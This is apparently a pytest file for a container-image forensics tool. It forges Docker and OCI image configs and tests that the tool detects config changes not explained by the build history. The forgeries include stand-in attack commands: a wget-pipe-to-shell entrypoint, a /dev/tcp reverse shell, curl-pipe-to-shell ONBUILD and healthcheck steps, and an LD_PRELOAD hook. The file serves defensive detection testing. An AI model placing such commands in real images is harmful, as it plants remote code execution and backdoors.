"""The image config held to the history (forensics.history.config, issue 8 item 8).

The fixtures are real images built by docker's classic builder, BuildKit and buildah
(tests/fixtures/config/README.md); the forgeries edit their config and re-digest the
archive consistently (config blob, manifest, index / manifest.json), history untouched.
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest
from conftest import CORPUS, analyzed

from forensics.archive.scan import InputError
from forensics.history import config as cc
from forensics.history import config_words as words
from forensics.history.instructions import parse_created_by
from forensics.models import HistoryEntry, Image

FIX = Path(__file__).parent / "fixtures" / "config"
BUILT = sorted(FIX.glob("*.tar"))
APPS = [p for p in BUILT if p.name.startswith("app-") and "squash" not in p.name]
MEDIUM_UP = {"critical", "high", "medium"}


def _mismatches(report, at_least=MEDIUM_UP):
    return [f for f in report.findings if f.code == "history.effect-mismatch" and f.severity.value in at_least]


# --------------------------------------------------------------------------- forging


def _members(data: bytes) -> list[tuple[tarfile.TarInfo, bytes]]:
    out = []
    with tarfile.open(fileobj=io.BytesIO(data)) as tf:
        for m in tf.getmembers():
            out.append((m, tf.extractfile(m).read() if m.isfile() else b""))
    return out


def _pack(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for m, data in members:
            m = tarfile.TarInfo(m.name) if m.isfile() else m
            if m.isfile() or m.type == tarfile.REGTYPE:
                m.size = len(data)
                tf.addfile(m, io.BytesIO(data))
            else:
                tf.addfile(m)
    return buf.getvalue()


def forge(src: Path, dst: Path, edit) -> None:
    """Apply `edit(config_dict)` to the image config and re-digest every reference to it."""
    members = _members(src.read_bytes())
    files = {m.name: d for m, d in members if m.isfile()}
    renames: dict[str, tuple[str, bytes]] = {}
    if "manifest.json" in files and "index.json" not in files:  # docker save (legacy layout)
        manifest = json.loads(files["manifest.json"])
        old = manifest[0]["Config"]
        doc = json.loads(files[old])
        edit(doc["config"])
        new = json.dumps(doc).encode()
        name = hashlib.sha256(new).hexdigest() + ".json"
        manifest[0]["Config"] = name
        renames[old] = (name, new)
        renames["manifest.json"] = ("manifest.json", json.dumps(manifest).encode())
    else:  # OCI archive: index -> manifest -> config
        index = json.loads(files["index.json"])
        mdesc = index["manifests"][0]
        mname = "blobs/sha256/" + mdesc["digest"].split(":")[1]
        manifest = json.loads(files[mname])
        cname = "blobs/sha256/" + manifest["config"]["digest"].split(":")[1]
        doc = json.loads(files[cname])
        edit(doc["config"])
        new = json.dumps(doc).encode()
        chex = hashlib.sha256(new).hexdigest()
        manifest["config"].update(digest="sha256:" + chex, size=len(new))
        mnew = json.dumps(manifest).encode()
        mhex = hashlib.sha256(mnew).hexdigest()
        mdesc.update(digest="sha256:" + mhex, size=len(mnew))
        renames[cname] = ("blobs/sha256/" + chex, new)
        renames[mname] = ("blobs/sha256/" + mhex, mnew)
        renames["index.json"] = ("index.json", json.dumps(index).encode())
    out = []
    for m, data in members:
        if m.isfile() and m.name in renames:
            name, data = renames[m.name]
            m = tarfile.TarInfo(name)
        out.append((m, data))
    dst.write_bytes(_pack(out))


def _set(key, value):
    def edit(cfg):
        cfg[key] = value

    return edit


def _env_add(item, first=False):
    def edit(cfg):
        cfg["Env"] = [item] + cfg["Env"] if first else cfg["Env"] + [item]

    return edit


def _env_replace(name, value):
    def edit(cfg):
        cfg["Env"] = [f"{name}={value}" if e.split("=", 1)[0] == name else e for e in cfg["Env"]]

    return edit


def _label_add(cfg):
    cfg["Labels"]["org.opencontainers.image.source"] = "https://evil.example/app"


def _port_add(cfg):
    cfg["ExposedPorts"]["4444/tcp"] = {}


def _volume_drop(cfg):
    cfg["Volumes"].pop("/data")


WRAPPER = ["/bin/sh", "-c", "wget -qO- http://203.0.113.9/x | sh; exec /srv/app/bin/app.sh --serve"]
REVERSE = ["/bin/sh", "-c", "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"]

FORGERIES = {
    # name: (edit, config key, severity)
    "entrypoint-wrapper": (_set("Entrypoint", WRAPPER), "Entrypoint", "critical"),
    "cmd-reverse-shell": (_set("Cmd", REVERSE), "Cmd", "critical"),
    "env-ld-preload": (_env_add("LD_PRELOAD=/usr/lib/libhook.so"), "Env", "critical"),
    "env-path-prepended": (
        _env_replace("PATH", "/tmp/.x:/srv/app/bin:/usr/local/bin:/usr/bin:/bin"),
        "Env",
        "critical",
    ),
    "env-value-changed": (_env_replace("APP_HOME", "/opt/other"), "Env", "high"),
    "user-root": (_set("User", "0:0"), "User", "critical"),
    "user-emptied": (_set("User", ""), "User", "critical"),
    "workdir": (_set("WorkingDir", "/tmp"), "WorkingDir", "high"),
    "label-added": (_label_add, "Labels", "high"),
    "port-added": (_port_add, "ExposedPorts", "high"),
    "volume-dropped": (_volume_drop, "Volumes", "high"),
    "stopsignal": (_set("StopSignal", "SIGKILL"), "StopSignal", "high"),
    "onbuild-trigger": (_set("OnBuild", ["RUN curl -s http://203.0.113.9/o | sh"]), "OnBuild", "high"),
    "healthcheck-added-or-changed": (
        _set("Healthcheck", {"Test": ["CMD-SHELL", "curl -s http://203.0.113.9/b|sh"]}),
        "Healthcheck",
        "high",
    ),
}


@pytest.mark.parametrize("sample", BUILT, ids=[p.name for p in BUILT])
def test_real_built_images_are_clean(sample):
    r = analyzed(sample)
    assert _mismatches(r, MEDIUM_UP | {"low"}) == [], [f.detail for f in _mismatches(r, MEDIUM_UP | {"low"})]


@pytest.mark.parametrize("name", ["commit.docker.tar", "scripted-buildah.oci.tar"])
def test_commit_after_dockerfile_steps_is_not_checkable(name):
    r = analyzed(FIX / name)
    infos = [f for f in r.findings if f.code == "history.effect-mismatch"]
    assert [f.severity.value for f in infos] == ["info"]
    assert infos[0].evidence["key"] == "unchecked"
    if name.startswith("commit"):
        assert set(infos[0].evidence["keys"]) == {"Entrypoint", "Env COMMITTED"}  # the rest is inherited
    else:
        assert {"Entrypoint", "User", "Env SCRIPTED", "Labels scripted"} <= set(infos[0].evidence["keys"])


@pytest.mark.parametrize("name", ["import.docker.tar", "app-buildah-squash.oci.tar"])
def test_import_and_squash_say_nothing(name):
    # Their config comes from outside the history (import --change, the squashed-away base).
    assert [f for f in analyzed(FIX / name).findings if f.code == "history.effect-mismatch"] == []


@pytest.mark.parametrize("sample", APPS, ids=[p.name for p in APPS])
@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_config_forgeries_are_reported(sample, forgery, tmp_path):
    edit, key, severity = FORGERIES[forgery]
    if key == "Labels" and "buildkit" in sample.name:
        severity = "low"  # BuildKit's --label leaves no history entry
    if key == "OnBuild" and "buildkit" in sample.name:
        pytest.skip("BuildKit records no ONBUILD step: its triggers cannot be held to the history")
    out = tmp_path / sample.name
    forge(sample, out, edit)
    r = analyzed(out)
    assert not [f for f in r.findings if f.code.startswith(("blob.", "layer.", "archive."))], "forgery not consistent"
    got = [f for f in r.findings if f.code == "history.effect-mismatch" and f.evidence.get("key") == key]
    assert got, [f.detail for f in r.findings]
    assert max((f.severity.value for f in got), key=["info", "low", "medium", "high", "critical"].index) == severity
    assert all(f.evidence.get("key") == key for f in _mismatches(r)), [f.detail for f in _mismatches(r)]


def test_evidence_in_words(tmp_path):
    out = tmp_path / "f.tar"
    forge(FIX / "app-classic.docker.tar", out, _set("Entrypoint", WRAPPER))
    [f] = [f for f in analyzed(out).findings if f.code == "history.effect-mismatch"]
    assert f.evidence["key"] == "Entrypoint" and f.history is not None
    assert "wget" in f.evidence["actual"] and "/srv/app/bin/app.sh" in f.evidence["expected"]
    assert "ENTRYPOINT" in f.detail and "wget" in f.detail


def test_entrypoint_without_cmd_clears_the_base_cmd(tmp_path):
    # app2 sets ENTRYPOINT only: the base's CMD ["/bin/sh"] must be gone, and putting it back is seen.
    for name in ("app2-classic.docker.tar", "app2-buildkit.docker.tar", "app2-buildah-layers-true.oci.tar"):
        out = tmp_path / name
        forge(FIX / name, out, _set("Cmd", ["/bin/sh", "-c", "id"]))
        got = [f for f in analyzed(out).findings if f.code == "history.effect-mismatch"]
        assert [(f.evidence["key"], f.severity.value) for f in got] == [("Cmd", "critical")], name


# --------------------------------------------------------------------------- clean corpus


def _corpus_clean():
    if not CORPUS.is_dir():
        return []
    return sorted(
        p
        for p in CORPUS.rglob("*.tar")
        if "/integrity/" not in str(p) and "forged" not in p.name and "pkgfile" not in p.name
    )


@pytest.mark.parametrize("sample", _corpus_clean(), ids=lambda p: p.name)
def test_clean_corpus_has_no_config_mismatch(sample):
    try:
        r = analyzed(sample)
    except InputError as exc:  # not an image archive: the reader's business
        pytest.skip(str(exc))
    assert _mismatches(r) == [], [f.detail for f in _mismatches(r)]


# --------------------------------------------------------------------------- parsing, on real lines


def _image(config: dict, lines: list[str], comments: list[str] | None = None) -> Image:
    comments = comments or [""] * len(lines)
    hist = [
        HistoryEntry(index=i, created_by=t, comment=c or None, empty_layer=not t.startswith(("COPY", "ADD")))
        for i, (t, c) in enumerate(zip(lines, comments))
    ]
    return Image(index=0, history=hist, config_text=json.dumps({"config": config, "history": []}))


def _check(config, lines, comments=None):
    return [
        (f.evidence.get("key"), f.evidence.get("name"), f.severity.value)
        for f in cc.check_config(_image(config, lines, comments))
    ]


def test_go_quoted_lists():
    assert words.quoted_list('["/bin/sh" "-c" "echo \\"hi\\" \\u00e9\\t"]') == ["/bin/sh", "-c", 'echo "hi" é\t']
    assert words.quoted_list('["a", "b"]') == ["a", "b"]
    assert words.quoted_list("[]") == []
    assert words.quoted_list('["a" junk "b"]') is None
    assert words.quoted_list("echo hi") is None


def test_processed_env_with_spaces_is_split_by_the_config():
    line = "/bin/sh -c #(nop)  ENV A=x y=z B=2"
    assert _check({"Env": ["A=x y=z", "B=2"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", line]) == []
    assert _check({"Env": ["A=x", "y=z", "B=2"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", line]) == []
    assert _check({"Env": ["A=x", "B=2"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", line]) == [("Env", "y", "high")]


def test_buildah_lines_are_expanded_as_written():
    lines = [
        "/bin/sh -c #(nop) COPY file:1 in / ",
        "/bin/sh -c #(nop) ARG V",
        '/bin/sh -c #(nop) ENV HOME2=/h P=/x:$PATH VER=$V LIT=\\$HOME Q="a b"',
        "/bin/sh -c #(nop) ENV D=${HOME2}/d E=${NOPE:-dflt}",
    ]
    env = [
        "PATH=" + cc.DEFAULT_PATH,
        "HOME2=/h",
        "P=/x:" + cc.DEFAULT_PATH,
        "VER=9.1",
        "LIT=$HOME",
        "Q=a b",
        "D=/h/d",
        "E=dflt",
    ]
    assert _check({"Env": env}, lines) == []
    env[2] = "P=/evil:/x:" + cc.DEFAULT_PATH
    assert _check({"Env": env}, lines) == [("Env", "P", "high")]


def test_healthcheck_records():
    q = '/bin/sh -c #(nop)  HEALTHCHECK &{["CMD-SHELL" "curl -f http://localhost/"] "30s" "3s" "0s" \'\\x02\'}'
    v = "HEALTHCHECK {Test:[CMD-SHELL curl -f http://localhost/] Interval:30s Timeout:3s StartPeriod:0s Retries:2}"
    raw = "/bin/sh -c #(nop) HEALTHCHECK --interval=30s --timeout=3s --retries=2 CMD curl -f http://localhost/"
    good = {
        "Test": ["CMD-SHELL", "curl -f http://localhost/"],
        "Interval": 30_000_000_000,
        "Timeout": 3_000_000_000,
        "Retries": 2,
    }
    for line, comment in ((q, ""), (v, "buildkit.dockerfile.v0"), (raw, "FROM x")):
        hist = ["/bin/sh -c #(nop) ADD file:1 in / ", line]
        assert _check({"Healthcheck": good}, hist, ["", comment]) == [], line
        bad = dict(good, Interval=1_000_000_000)
        assert _check({"Healthcheck": bad}, hist, ["", comment]) == [("Healthcheck", None, "high")], line


def test_ports_and_volumes_forms():
    for line in (
        "/bin/sh -c #(nop)  EXPOSE 8080 53/udp 7000-7001",
        "EXPOSE [53/udp 7000/tcp 7001/tcp 8080/tcp]",
        "EXPOSE map[53/udp:{} 7000/tcp:{} 7001/tcp:{} 8080/tcp:{}]",
    ):
        ports = {"8080/tcp": {}, "53/udp": {}, "7000-7001/tcp": {}}
        assert (
            _check(
                {"ExposedPorts": ports}, ["/bin/sh -c #(nop) ADD file:1 in / ", line], ["", "buildkit.dockerfile.v0"]
            )
            == []
        )
    assert _check({"Volumes": {"/a": {}, "/b": {}}}, ["/bin/sh -c #(nop) ADD file:1 in / ", "VOLUME [/a /b]"]) == []
    assert _check(
        {"Volumes": {"/a": {}}}, ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) VOLUME ["/a", "/b"]']
    ) == [("Volumes", "/b", "high")]


def test_builder_defaults_are_not_alarms():
    # BuildKit FROM scratch: WorkingDir "/" and the default PATH; buildah's identity label.
    assert (
        _check(
            {"Env": ["PATH=" + cc.DEFAULT_PATH], "WorkingDir": "/", "Cmd": ["/hello"]},
            ["COPY hello / # buildkit", 'CMD ["/hello"]'],
            ["buildkit.dockerfile.v0"] * 2,
        )
        == []
    )
    assert (
        _check({"Labels": {"io.buildah.version": "1.28.2"}}, ["/bin/sh -c #(nop) COPY file:1 in / "], ["FROM scratch"])
        == []
    )
    classic = ["/bin/sh -c #(nop) COPY file:1 in / ", '/bin/sh -c #(nop)  CMD ["x"]']
    assert _check({"Labels": {"io.buildah.version": "1.28.2"}, "Cmd": ["x"]}, classic) == [
        ("Labels", "io.buildah.version", "high")
    ]


def test_no_metadata_steps_is_not_checkable():
    got = _check({"Entrypoint": ["/ko-app/x"]}, ["COPY a /ko-app/x # buildkit"], ["buildkit.dockerfile.v0"])
    assert got == []


def test_onbuild_is_not_applied():
    assert _check(
        {"Env": ["ONB=1"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", "/bin/sh -c #(nop)  ONBUILD ENV ONB=1"]
    ) == [("Env", "ONB", "high")]


@pytest.mark.parametrize(
    "config_text",
    [
        "not json",
        "[]",
        '{"config": []}',
        '{"config": {"Env": "x", "Labels": [1], "ExposedPorts": 5, "Cmd": {"a": 1},'
        ' "User": 7, "Healthcheck": [], "Volumes": "x"}}',
        '{"config": {"Env": [1, null, "=", "A"], "Labels": {"a": 1}}}',
    ],
)
def test_hostile_configs_never_raise(config_text):
    hist = [
        HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ADD file:1 in / "),
        HistoryEntry(index=1, created_by='/bin/sh -c #(nop)  CMD ["x" \x00 "\\u', empty_layer=True),
        HistoryEntry(index=2, created_by="HEALTHCHECK &{[" + "[" * 5000, empty_layer=True),
        HistoryEntry(index=3, created_by="ENV " + "A=${" * 2000, empty_layer=True),
    ]
    img = Image(index=0, history=hist, config_text=config_text)
    for f in cc.check_config(img):
        assert f.code == "history.effect-mismatch"
        assert all(ord(c) >= 32 for c in f.detail)


def test_instructions_from_the_pipeline_are_accepted():
    img = _image({"User": "0"}, ["/bin/sh -c #(nop) ADD file:1 in / ", "/bin/sh -c #(nop)  USER app"])
    ins = [parse_created_by(h.created_by, h.comment, h.author) for h in img.history]
    [f] = cc.check_config(img, ins)
    assert (f.evidence["key"], f.severity.value) == ("User", "critical")


def test_word_expansion_follows_dockerfile_rules():
    known = {words.WILD: "", "A": "1", "E": ""}
    assert words.expand("${NOPE-d}x$NOPE${A:+set}${E:-dflt}${E-keep}'$A'\"$A\"\\$A", known) == "dxsetdflt$A1$A"
    # After a barrier an undefined name is unknown, not empty.
    assert words.expand("/x:$PATH", {}) == "/x:" + words.WILD
    assert words.matches("/x:" + words.WILD, "/x:/usr/bin") and not words.matches("/x:" + words.WILD, "/y:/x:/usr/bin")


def test_hostile_patterns_are_answered():
    # Both are linear here; a backtracking regex or a quadratic join would hang on them.
    pattern = (words.WILD + "a") * 3000 + words.WILD + "b"
    value = "a" * 60000
    assert not words.matches(pattern, value)
    text = "K=" + " x" * 30000
    assert words.processed_pairs(text, {"K": " x" * 29999 + " y"})[0][0] == "K"


def test_one_space_nop_lines_read_both_ways():
    # buildah writes the line as written; a pre-17 classic builder wrote processed values with one space.
    hist = [
        "/bin/sh -c #(nop) ADD file:1 in / ",
        '/bin/sh -c #(nop) ENV A=x y B="q r"',
        '/bin/sh -c #(nop) HEALTHCHECK &{["CMD" "true"] "1s" "0s" "0s" \'\\x00\'}',
    ]
    health = {"Test": ["CMD", "true"], "Interval": 1_000_000_000}
    assert _check({"Env": ["A=x y", "B=q r"], "Healthcheck": health}, hist) == []
    assert _check({"Env": ["A=x", "B=q r"], "Healthcheck": health}, hist) == []
    assert _check({"Env": ["A=zz", "B=q r"], "Healthcheck": health}, hist) == [("Env", "A", "high")]


def test_path_severity():
    assert cc._path_shadows("/a:/b", "/x:/a:/b") and cc._path_shadows("/a:/b", "/b:/a")
    assert cc._path_shadows("/a:/b", "/a:/x:/b")
    assert not cc._path_shadows("/a:/b", "/a:/b:/x") and not cc._path_shadows("/a:/b", "/b")


def test_squashed_history_without_its_base_is_not_held_to_an_empty_start():
    # buildah --squash keeps only the last stage's entries; one layer, owned by the last.
    hist = [
        HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ENV A=1", empty_layer=True),
        HistoryEntry(index=1, created_by="/bin/sh -c #(nop) COPY file:1 in /x ", comment="FROM localhost/base:1"),
    ]
    img = Image(index=0, history=hist, config_text=json.dumps({"config": {"Env": ["A=1", "FROM_BASE=1"]}}))
    assert cc.check_config(img) == []
    img.config_text = json.dumps({"config": {"Env": ["A=2", "FROM_BASE=1"]}})
    assert [(f.evidence["name"], f.severity.value) for f in cc.check_config(img)] == [("A", "high")]


def test_names_from_the_input_reach_the_terminal_escaped():
    hist = ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) LABEL "a\nb"="c"', '/bin/sh -c #(nop)  CMD ["x"]']
    config = {
        "Cmd": ["x"],
        "Labels": {"evil\x1b[2J": "1", "a\nb": "d"},
        "Env": ["X\x07=1"],
        "ExposedPorts": {"80/tcp\r": {}},
    }
    findings = cc.check_config(_image(config, hist))
    assert {f.evidence["key"] for f in findings} == {"Labels", "Env", "ExposedPorts"}
    for f in findings:
        assert all(32 <= ord(ch) < 127 for ch in f.subject + f.detail), (f.subject, f.detail)


def test_nop_marker_inside_a_buildkit_value_is_a_value():
    hist = ["COPY a /a # buildkit", "ENV X=a #(nop) ENV Y=b"]
    assert (
        _check(
            {"Env": ["PATH=" + cc.DEFAULT_PATH, "X=a #(nop) ENV Y=b"], "WorkingDir": "/"},
            hist,
            ["buildkit.dockerfile.v0"] * 2,
        )
        == []
    )


def test_buildah_history_marks_are_not_values():
    # Newer buildah appends `|unsetLabel=K` to the line; K is then gone from the config.
    hist = ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) LABEL a="1"|unsetLabel=b' + "|unsetLabel=c" * 5000]
    assert _check({"Labels": {"a": "1", "io.buildah.version": "1.40.0"}}, hist, ["", "FROM x"]) == []
    assert _check({"Labels": {"a": "1", "b": "2"}}, hist, ["", "FROM x"]) == [("Labels", "b", "high")]
